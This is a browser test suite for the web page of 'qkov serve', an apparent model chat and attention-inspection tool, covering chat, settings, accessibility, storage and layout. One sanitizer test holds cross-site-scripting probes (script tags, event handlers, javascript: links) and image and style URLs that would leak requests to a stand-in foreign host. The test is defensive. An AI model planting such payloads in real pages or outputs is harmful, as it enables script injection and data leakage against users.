// The page of `qkov serve` in a headless Chromium, against a running server:
//     qkov serve &
//     cd src/serve/page && npm ci && QKOV_URL=http://127.0.0.1:8080/ npm test
// CHROMIUM is the browser (default /usr/bin/chromium). Pictures of all views are written to the folder QKOV_SHOTS, if that is set.
import assert from "node:assert/strict";
import { mkdirSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { after, before, test } from "node:test";

const { chromium } = createRequire(new URL("../../src/serve/page/package.json", import.meta.url))("playwright-core");

const URL_OF_PAGE = process.env.QKOV_URL;
const SHOTS = process.env.QKOV_SHOTS;
const PHONE = { viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true };
const DESK = { viewport: { width: 1360, height: 860 } };
/** Small and repeatable, so that a slow machine is fast enough. */
const BRIEF = { sampling: { max_tokens: 24, seed: 4 } };

let browser;
before(async () => {
  assert.ok(URL_OF_PAGE, "QKOV_URL must be the address of a running `qkov serve`");
  if (SHOTS) mkdirSync(SHOTS, { recursive: true });
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium" });
});
after(() => browser?.close());

/** A fresh page. `close` fails where anything was wrong with it: errors, failed or foreign requests. */
async function open({ settings = BRIEF, store = {}, expected = /$^/, route, ...options } = {}) {
  const context = await browser.newContext({ ...DESK, ...options });
  const kept = { "qkov.settings": settings, ...store };
  await context.addInitScript((kept) => {
    if (sessionStorage.getItem("begun")) return;
    sessionStorage.setItem("begun", "yes");
    for (const [name, value] of Object.entries(kept)) localStorage.setItem(name, JSON.stringify(value));
  }, kept);
  const page = await context.newPage();
  page.setDefaultTimeout(60_000);
  const faults = [];
  const note = (text) => expected.test(text) || faults.push(text);
  page.on("console", (message) => ["error", "warning"].includes(message.type()) && note(`console: ${message.text()}`));
  page.on("pageerror", (error) => note(`error: ${error.message}`));
  page.on("dialog", (dialog) => note(`dialog: ${dialog.message()}`) && dialog.dismiss());
  page.on("requestfailed", (request) => {
    // What is stopped is aborted on purpose.
    const reason = request.failure()?.errorText ?? "";
    if (reason !== "net::ERR_ABORTED") note(`failed: ${request.url()} ${reason}`);
  });
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol !== "data:" && url.origin !== new URL(URL_OF_PAGE).origin) note(`foreign: ${request.url()}`);
  });
  if (route) await page.route("**/*", route);
  const response = await page.goto(URL_OF_PAGE);
  const close = async () => {
    assert.deepEqual(faults, []);
    await context.close();
  };
  return { page, response, close };
}

const box = (page) => page.getByRole("textbox", { name: "Message" });
const replies = (page) => page.locator(".reply .prose");
const written = (page) => page.locator(".reply.last footer").waitFor();

/** Enter does nothing before the page knows the model. */
const sendable = (page) => page.locator("button[type=submit]:enabled").waitFor();

async function say(page, text) {
  await box(page).fill(text);
  await sendable(page);
  await box(page).press("Enter");
  await written(page);
}

async function view(page, name) {
  await page.getByRole("link", { name, exact: true }).click();
}

async function fits(page) {
  const [content, window] = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
  assert.ok(content <= window, `${content} px wide in ${window} px`);
  const wide = await page.evaluate(() =>
    [...document.querySelectorAll(".top, main, main > section, .transcript, .panel")]
      .filter((box) => box.scrollWidth > box.clientWidth)
      .map((box) => box.className || box.tagName),
  );
  assert.deepEqual(wide, []);
  // Nor may the header grow by a line that it has no room for.
  assert.ok((await page.locator(".top").boundingBox()).height < 80);
}

test("the page comes with a policy that forbids all but itself", async () => {
  const { response, close } = await open();
  const policy = response.headers()["content-security-policy"];
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /script-src 'sha256-[^ ]+'(;|$)/);
  assert.doesNotMatch(policy, /unsafe|https?:|\*/);
  await close();
});

test("a message gets a reply, with its figures", async () => {
  const { page, close } = await open();
  await say(page, "Write a passage about the sea.");
  assert.ok((await replies(page).first().innerText()).trim().length > 0);
  assert.match(await page.locator(".reply .figures").innerText(), /\d tok\/s\n\d+ tokens\nprompt \d+, \d+ cached/);
  assert.ok(Number(await page.locator(".cache b").innerText()) >= 0);
  await close();
});

test("Esc stops a reply and keeps what was written, also over a reload", async () => {
  const { page, close } = await open({ settings: { sampling: { ignore_eos: true, seed: 4 } } });
  await box(page).fill("Write a passage about the sea.");
  await sendable(page);
  await box(page).press("Enter");
  await page.waitForFunction(() => document.querySelector(".reply .prose")?.textContent.length > 20);
  await page.keyboard.press("Escape");
  await written(page);
  const text = await replies(page).first().innerText();
  assert.ok(text.length > 20);
  assert.match(await page.locator(".reply .figures").innerText(), /stopped/);
  await page.reload();
  await written(page);
  assert.equal(await replies(page).first().innerText(), text);
  await close();
});

test("a reply that is written anew takes the place of the old one", async () => {
  const { page, close } = await open({ settings: { sampling: { max_tokens: 24 } } });
  await say(page, "Write a passage about a storm.");
  const seen = new Set([await replies(page).first().innerText()]);
  for (let i = 0; i < 4 && seen.size < 2; i++) {
    await page.getByRole("button", { name: "Regenerate" }).click();
    await page.locator(".reply[aria-busy]").waitFor({ state: "attached" });
    await written(page);
    seen.add(await replies(page).first().innerText());
  }
  assert.equal(await replies(page).count(), 1);
  assert.ok(seen.size > 1);
  await close();
});

test("system prompt, plan and sampler settings go to the server", async () => {
  const { page, close } = await open();
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByRole("textbox", { name: "System prompt of this conversation" }).fill("You like short words.");
  await page.getByRole("combobox", { name: "Normalizer" }).selectOption("top_k");
  await page.getByRole("textbox", { name: /^k / }).fill("16");
  await page.getByRole("combobox", { name: "Mask" }).selectOption("\0selectors");
  await page.getByRole("textbox", { name: "Mask, by layers and heads" }).fill("*=causal;0=window:n=32");
  await page.getByRole("textbox", { name: "Temperature" }).fill("0.5");
  const sent = page.waitForRequest("**/v1/chat/completions");
  await say(page, "Hello.");
  const body = (await sent).postDataJSON();
  assert.deepEqual(body, {
    messages: [
      { role: "system", content: "You like short words." },
      { role: "user", content: "Hello." },
    ],
    max_tokens: 24,
    seed: 4,
    temperature: 0.5,
    qkov: { norm: "top_k:k=16", mask: "*=causal;0=window:n=32" },
    stream: true,
  });
  assert.match(await page.locator(".reply .figures").innerText(), /top_k:k=16 · \*=causal;0=window:n=32/);
  await close();
});

test("keys are enough to chat", async () => {
  const { page, close } = await open();
  await page.locator(".empty dl").waitFor();
  // From the start of the page, not from the field, which has the focus on a desk.
  await page.mouse.click(2, 2);
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.textContent.slice(0, 40)), "Skip to input");
  await page.keyboard.press("Enter");
  assert.equal(await page.evaluate(() => document.activeElement.getAttribute("aria-label")), "Message");
  await page.keyboard.type("One line");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("and another");
  await page.keyboard.press("Enter");
  await written(page);
  assert.equal(await page.locator(".said .words").innerText(), "One line\nand another");
  const reached = new Set();
  for (let i = 0; i < 40; i++) {
    await page.keyboard.press("Tab");
    const [name, ringed] = await page.evaluate(() => {
      const at = document.activeElement;
      const name = (at.getAttribute("aria-label") ?? at.textContent).slice(0, 40);
      // The field has its ring around it and its button.
      const ring = getComputedStyle(at.closest(".box") && at.tagName === "TEXTAREA" ? at.closest(".box") : at);
      return [name, at === document.body || ring.outlineStyle !== "none" || ring.boxShadow !== "none"];
    });
    assert.ok(ringed, `no visible focus on ${name}`);
    reached.add(name);
  }
  for (const name of ["chat", "compare", "attention", "Settings", "New conversation", "Copy", "Regenerate", "See attention", "Message"]) {
    assert.ok(reached.has(name), `Tab does not reach ${name}: ${[...reached].join(", ")}`);
  }
  await close();
});

test("conversations are kept, named and deleted", async () => {
  const { page, close } = await open();
  await say(page, "First of all");
  await page.getByRole("button", { name: "New conversation", exact: true }).first().click();
  await say(page, "Second");
  await page.getByRole("button", { name: "Rename: Second" }).click();
  await page.getByRole("textbox", { name: "Name of the conversation" }).fill("Named");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => Object.values(localStorage).some((text) => text.includes('"title":"Named"')));
  await page.reload();
  const names = page.locator(".conversations .name");
  await names.first().waitFor();
  assert.deepEqual((await names.allInnerTexts()).sort(), ["First of all", "Named"]);
  await page.getByRole("button", { name: "Delete: Named" }).click();
  await page.getByRole("button", { name: "Really delete: Named" }).click();
  assert.deepEqual(await names.allInnerTexts(), ["First of all"]);
  assert.equal(await page.locator(".said .words").innerText(), "First of all");
  await close();
});

test("two variants: what differs, divergence of tokens, both choices", async () => {
  const { page, close } = await open();
  await view(page, "compare");
  await page.locator(".pane").nth(1).getByText("Change variant B").click();
  await page.locator(".pane").nth(1).getByRole("combobox", { name: "Normalizer" }).selectOption("sigmoid");
  await page.getByRole("textbox", { name: "Prompt for both variants" }).fill("Write a passage about the sea.");
  await page.keyboard.press("Enter");
  const strip = page.getByRole("listbox", { name: "Reply of A, coloured by divergence" });
  await strip.waitFor();
  const [kl, a, b] = (await page.locator(".verdict dd").allInnerTexts()).map((text) => Number.parseFloat(text.replace(",", "")));
  assert.ok(kl > 0, `mean divergence ${kl}`);
  assert.ok(a >= 1 && b >= 1 && a !== b, `perplexities ${a} and ${b}`);
  assert.ok((await strip.locator(".warm").count()) > 0);
  assert.ok((await page.locator(".pane").nth(1).locator("mark").count()) > 0);
  await page.keyboard.press("Escape");
  await strip.focus();
  await page.keyboard.press("ArrowRight");
  const note = page.getByRole("tooltip");
  assert.equal(await note.locator("table").count(), 2);
  assert.equal(await note.locator("tbody tr").count(), 10);
  const shares = (await note.locator("td + td").allInnerTexts()).map((text) => Number.parseFloat(text) / 100);
  for (const five of [shares.slice(0, 5), shares.slice(5)]) {
    assert.ok(five.every((share, i) => i === 0 || share <= five[i - 1] + 1e-9), `falling: ${five}`);
    assert.ok(five.reduce((sum, share) => sum + share) <= 1.03, `shares: ${five}`);
  }
  await page.keyboard.press("Escape");
  assert.equal(await note.count(), 0);
  await page.getByRole("button", { name: "differences" }).click();
  assert.ok((await page.locator(".pane").first().locator("mark").count()) > 0);
  await close();
});

test("what heads look at: matrix, tokens, heads", async () => {
  const { page, close } = await open();
  await say(page, "Write a passage about the sea.");
  await page.getByRole("link", { name: "See attention" }).click();
  const canvas = page.locator("canvas");
  await canvas.waitFor();
  await page.waitForFunction(() => document.querySelector("canvas").width > 10);
  // Causal: what is above the diagonal is paper, and of the rest something is not.
  const { n, above, below } = await page.evaluate(() => {
    const canvas = document.querySelector("canvas");
    const n = canvas.width;
    const { data } = canvas.getContext("2d").getImageData(0, 0, n, n);
    const colour = (row, column) => [...data.slice(4 * (row * n + column), 4 * (row * n + column) + 3)].join();
    const paper = colour(0, n - 1);
    const [above, below] = [new Set(), new Set()];
    for (let row = 0; row < n; row++) for (let column = 0; column < n; column++) (column > row ? above : below).add(colour(row, column));
    above.delete(paper);
    return { n, above: above.size, below: below.size };
  });
  assert.equal(above, 0);
  assert.ok(below > 3, `${below} colours`);
  const strip = page.getByRole("listbox", { name: /Tokens, coloured/ });
  assert.equal(await strip.getByRole("option").count(), n);
  await strip.focus();
  await page.keyboard.press("Home");
  assert.equal(await strip.locator(".warm").count(), 1);
  await page.keyboard.press("End");
  assert.ok((await strip.locator(".warm").count()) > 1);
  await canvas.hover({ position: { x: 20, y: 200 } });
  assert.match(await page.locator("#cell").innerText(), / → .+ [\d.]+$/);
  const model = await page.evaluate(async () => (await fetch("/qkov/model")).json());
  assert.equal(await page.locator(".heads tbody tr").count(), model.n_heads);
  const answer = page.waitForResponse("**/qkov/attention");
  await page.getByRole("button", { name: "Next Layer" }).click();
  assert.equal((await (await answer).json()).layer, 1);
  const other = page.waitForResponse("**/qkov/attention");
  await page.getByRole("button", { name: "Head 1", exact: true }).click();
  assert.equal((await (await other).json()).head, 1);
  await close();
});

const HOSTILE = `# Title

<script>alert(1)</script>

<img src=x onerror="alert(2)"> <svg onload=alert(3)> <iframe srcdoc="<script>alert(4)</script>"></iframe>

<style>body { background: url(http://foreign.example/style) }</style>

[x](javascript:alert(5)) [y](data:text/html,hi) [good](https://example.com/a) ![leak](http://foreign.example/i.png?q=1)

**bold** *italic* \`code\` [r][ref] <b onclick="alert(6)">b</b>

[ref]: javascript:alert(7)

- one
- two

\`\`\`js
alert("8")
\`\`\``;
/** Nested more deeply than a parser's stack is. */
const DEEP = `${">".repeat(5000)} **deep**`;

test("what a model writes is never markup", async () => {
  const written = (content) => ({ role: "assistant", content });
  const messages = [{ role: "user", content: "<b>hi</b>" }, written(HOSTILE), written(DEEP)];
  const store = { "qkov.chat.h": { id: "h", title: "<i>t</i>", system: "", messages, updated: 1 }, "qkov.current": "h" };
  const { page, close } = await open({ store });
  const reply = replies(page).first();
  await reply.waitFor();
  assert.equal(await page.locator("main :is(script, style, img, svg, iframe, object, b, i)").count(), 0);
  const links = await reply.locator("a").evaluateAll((all) => all.map((link) => [link.href, link.rel, link.textContent]));
  assert.deepEqual(links, [["https://example.com/a", "noopener noreferrer", "good"]]);
  const text = await reply.innerText();
  for (const shown of ["<script>alert(1)</script>", "[x](javascript:alert(5))", "![leak](http://foreign.example/i.png?q=1)", '<b onclick="alert(6)">']) {
    assert.ok(text.includes(shown), shown);
  }
  assert.ok((await replies(page).nth(1).innerText()).includes("deep"));
  await close();
});

test("Markdown becomes elements", async () => {
  const text = "# Title\n\n**bold** *italic* `code`\n\n- one\n- two\n\n1. first\n\n```js\nlet x;\n```\n\n| a |\n|---|\n| 1 |";
  const messages = [{ role: "user", content: "?" }, { role: "assistant", content: text }];
  const store = { "qkov.chat.m": { id: "m", title: "m", system: "", messages, updated: 1 }, "qkov.current": "m" };
  const { page, close } = await open({ store });
  const reply = replies(page).first();
  for (const part of ["h3", "strong", "em", "p code", "ul li:nth-child(2)", "ol li", "figure.code pre code", "td"]) {
    assert.equal(await reply.locator(part).count(), 1, part);
  }
  await close();
});

test("what the server refuses is told in place", async () => {
  const { page, close } = await open({ settings: { plan: { norm: "no_such_norm" }, sampling: {} }, expected: /status of 400/ });
  await box(page).fill("Hello.");
  await sendable(page);
  await box(page).press("Enter");
  await page.locator(".reply .fault").waitFor();
  assert.match(await page.locator(".reply .fault").innerText(), /no_such_norm/);
  assert.equal(await page.getByRole("button", { name: "Try again" }).count(), 1);
  await close();
});

test("a key is asked for, and kept for the tab", async () => {
  const route = (route) => {
    const request = route.request();
    const open = new URL(request.url()).pathname === "/" || request.headers()["authorization"] === "Bearer right";
    if (open) return route.continue();
    return route.fulfill({ status: 401, json: { error: { message: "Invalid API Key", type: "authentication_error", code: 401 } } });
  };
  const { page, close } = await open({ route, expected: /status of 401/ });
  const field = page.getByLabel("API key");
  await field.fill("wrong");
  await field.press("Enter");
  await page.getByText("The key was refused.").waitFor();
  await page.getByLabel("API key").fill("right");
  await page.keyboard.press("Enter");
  await page.locator(".empty dl").waitFor();
  assert.equal(await page.evaluate(() => Object.values(localStorage).some((text) => text.includes("right"))), false);
  await page.reload();
  await page.locator(".empty dl").waitFor();
  assert.equal(await page.getByRole("dialog").count(), 0);
  await close();
});

for (const [name, options] of [["light", { colorScheme: "light" }], ["dark", { colorScheme: "dark" }], ["phone", PHONE]]) {
  test(`all views fit: ${name}`, async () => {
    const { page, close } = await open(options);
    const shot = async (what) => {
      await fits(page);
      if (SHOTS) await page.screenshot({ path: join(SHOTS, `${name}-${what}.png`) });
    };
    await page.locator(".empty dl").waitFor();
    await shot("empty");
    await say(page, "Write a passage about the sea and a storm.");
    await shot("chat");
    await page.getByRole("button", { name: "Settings" }).click();
    await shot("settings");
    await page.keyboard.press("Escape");
    if (name === "phone") {
      assert.equal(await page.locator(".panel").count(), 0);
      await page.getByRole("button", { name: "History" }).click();
      await shot("history");
      await page.getByRole("button", { name: "Close" }).click();
    } else {
      await page.getByRole("button", { name: "Settings" }).click();
    }
    await view(page, "attention");
    await page.waitForFunction(() => document.querySelector("canvas")?.width > 10);
    await shot("attention");
    await view(page, "compare");
    await page.locator(".pane").nth(1).getByText("Change variant B").click();
    await page.locator(".pane").nth(1).getByRole("combobox", { name: "Normalizer" }).selectOption("sigmoid");
    await page.locator(".pane").nth(1).getByText("Change variant B").click();
    await page.getByRole("textbox", { name: "Prompt for both variants" }).fill("Write a passage about the sea and a storm.");
    await page.getByRole("button", { name: "Compare", exact: true }).click();
    await page.locator(".verdict").waitFor();
    await page.locator(".panes .strip[role=listbox]").focus();
    for (let i = 0; i < 6; i++) await page.keyboard.press("ArrowRight");
    await shot("compare");
    await close();
  });
}

test("the theme can be chosen, and is kept", async () => {
  const { page, close } = await open({ colorScheme: "light" });
  const paper = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const light = await paper();
  await page.getByRole("button", { name: "Use the dark theme" }).click();
  assert.notEqual(await paper(), light);
  await page.waitForFunction(() => localStorage.getItem("qkov.settings").includes('"theme":"dark"'));
  const dark = await paper();
  await page.reload();
  assert.equal(await paper(), dark);
  await close();
});
